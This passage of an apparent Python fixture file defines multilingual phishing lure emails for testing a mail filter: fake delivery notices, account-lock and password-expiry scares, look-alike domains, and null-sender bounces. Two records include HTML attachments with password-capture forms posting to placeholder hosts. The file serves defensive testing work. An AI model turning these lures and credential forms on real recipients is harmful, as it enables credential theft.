lure("lure-108-pending-en.eml", [F, T, L, C],
     ("Mail Delivery", "mail.delivery.desk@outlook.com"), [TANAKA],
     "You have 5 pending messages",
     charset="us-ascii",
     note="English pending-messages lure from free mail, raw IPv4 sign-in",
     text="""
     Dear user,

     You have 5 pending messages that could not be delivered to your inbox.
     Login here to release them: http://198.51.100.62/webmail/

     Mail Delivery
     """),

lure("lure-109-appleid-lock.eml", [T, C],
     ("Apple サポート", "no-reply@id-support-center.example"), [SUZUKI],
     "Apple IDがロックされました",
     charset="utf-8",
     note="account lock lure: Apple ID locked, log in to confirm identity",
     text="""
     お客様のアカウントがロックされました。
     不正なアクセスを防ぐため、下記URLよりログインして本人確認を完了してください。
     https://id-support-center.example/unlock

     Apple サポート
     """),

lure("lure-110-keihi-system.eml", [T, C],
     ("経費精算システム事務局", "info@keihi-cloud-renewal.example"), [SATO],
     "経費精算システムの移行について",
     charset="iso-2022-jp",
     note="expense system migration asking for ID and password",
     text="""
     各位

     経費精算システムの移行に伴い、再ログインが必要です。
     下記ページでIDとパスワードを入力してください。
     https://keihi-cloud-renewal.example/login

     経費精算システム事務局
     """),

lure("lure-111-baoguo-163.eml", [F, K, T],
     ("快递服务中心", "kuaidi_service88@163.com"), [INFO],
     "您的包裹无法派送",
     charset="utf-8",
     note="parcel notice in simplified Chinese from 163.com",
     text="""
     尊敬的客户：

     您的包裹因地址不详无法派送，请在二十四小时内点击下面的链接更新您的地址信息。
     https://kuaidi-update.example/addr

     快递服务中心
     """),

lure("lure-112-reinsurer-gmail.eml", [F, T, S],
     ("Global Re Underwriting", "globalre.underwriting@gmail.com"), [EIGYO],
     "Reinsurance treaty proposal for 2027",
     charset="us-ascii",
     note="English free-mail sender claiming a reinsurer; signature at the reinsurer's domain",
     text="""
     Dear Sir or Madam,

     We are a reinsurer and would like to offer your agency a treaty for 2027.
     Please reply with your contact person.

     --
     Michael Brown
     Underwriting Manager, Global Re
     m.brown@global-re-underwriting.example
     """),

lure("lure-113-m365-expiry-digit.eml", [T, L, C],
     ("Microsoft 365", "no-reply@m365-account-notice.example"), [TANAKA],
     "パスワードの有効期限のお知らせ",
     charset="utf-8",
     note="cloud-mail password expiry; link host writes 0 for the o of the brand; keep the current password",
     text="""
     田中 様

     Microsoft 365 のパスワードの有効期限が本日切れます。
     現在のパスワードを引き続き使用するには、下記で確認してください。
     https://micr0soft365-mail.example/keep

     Microsoft 365 チーム
     """),
lure("lure-114-page-title-voicemail.eml", [T, C],
     ("PBX Notification", "pbx@office-phone-notify.example"), [SATO],
     "ご確認ください",
     charset="iso-2022-jp",
     note="the topic is only in the attached page's title and heading (a voicemail); the page asks for a password",
     attach=[Att("message_4471.html", "html", "text/html",
                 page="<html><head><title>Voicemail message</title></head><body>"
                      "<h1>新しい音声メッセージ（0:42）</h1>"
                      '<form method="post" action="https://pbx-voice-play.example/l">'
                      'メールアドレス <input name="m"> パスワード <input type="password" name="p">'
                      "</form></body></html>\n")],
     text="""
     添付ファイルをご確認ください。
     """),

lure("lure-115-page-name-kyuyo.eml", [T, C],
     ("総務部", "soumu-dept@office-hr-notify.example"), [YAMAMOTO],
     "ご確認ください",
     charset="iso-2022-jp",
     note="the topic is only in the attached page's file name (給与明細); the page asks for a password",
     attach=[Att("給与明細_2026年12月.html", "html", "text/html", style="2047", charset="iso-2022-jp",
                 page="<html><head><title>Document</title></head><body>"
                      '<form method="post" action="https://hr-doc-view.example/l">'
                      'ID <input name="u"> Password <input type="password" name="p">'
                      "</form></body></html>\n")],
     text="""
     添付ファイルをご確認ください。
     """),
]

# Rendered after every earlier record (gen.py all_messages), so those stay
# byte-identical.
LAST = [
# ---------------------------------------------------------------- a bounce's marks chosen by the sender

lure("lure-116-null-sender-quota.eml", [C, L, T],
     ("メールシステム管理者", "admin@mailbox-quota-center.example"), [SATO],
     "メールボックス容量のお知らせ",
     charset="utf-8",
     env_from="<>",
     note="quota lure sent from the null sender (MAIL FROM:<>) as a bounce would be; still read in full",
     text="""
     佐藤様

     メールボックスの容量が上限に達したため、受信メール5通が保留されています。
     下記よりログインし、パスワードを確認してください。
     http://198.51.100.23/webmail/login

     メールシステム管理者
     """),

lure("lure-117-postmaster-lookalike.eml", [C, L, T, LS],
     ("Mail Delivery System", "postmaster@sakura-hokken.example"), [YAMAMOTO],
     "未配信のメッセージがあります",
     charset="utf-8",
     env_from="<>",
     note="signed postmaster@ at a look-alike of the firm's domain, from the null sender; still read in full",
     text="""
     山本様

     未配信のメッセージが3件あります。
     メッセージを受け取るには、下記からサインインしてパスワードを入力してください。
     http://198.51.100.23/owa/release

     Mail Delivery System
     """),
]
